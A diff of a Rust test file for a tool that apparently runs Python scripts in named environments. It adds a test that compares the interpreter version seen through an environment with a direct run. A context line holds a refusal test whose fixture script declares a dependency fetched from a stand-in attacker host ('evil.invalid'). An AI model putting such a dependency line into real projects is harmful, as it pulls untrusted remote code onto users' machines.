@@ -136,3 +136,18 @@ fn files_of_strangers_choose_no_place_and_no_build() {
     place.folder.write("script.py", "# /// script\n# dependencies = ['six @ https://evil.invalid/six.whl']\n# ///\n");
     refused(place, &["run", "script.py"], &["script.py", "never from a URL"]);
 }
+
+#[test]
+fn a_run_finds_the_interpreter_that_its_environment_was_built_for() {
+    const OTHER: &str = "/usr/bin/python3";
+    if !std::path::Path::new(OTHER).exists() {
+        stockade_testkit::skipped("an environment of another interpreter", "there is no /usr/bin/python3");
+        return;
+    }
+    let place = Place::new();
+    place.built("x", &["--with", "six", "--python", OTHER]);
+    let version =
+        place.ran(&["run", "-q", "--environment", "x", "-c", "import six, sys; print(sys.version)"]).expect(0);
+    let direct = place.ran(&["run", "-q", "--python", OTHER, "-c", "import sys; print(sys.version)"]).expect(0);
+    assert_eq!(version.stdout, direct.stdout);
+}
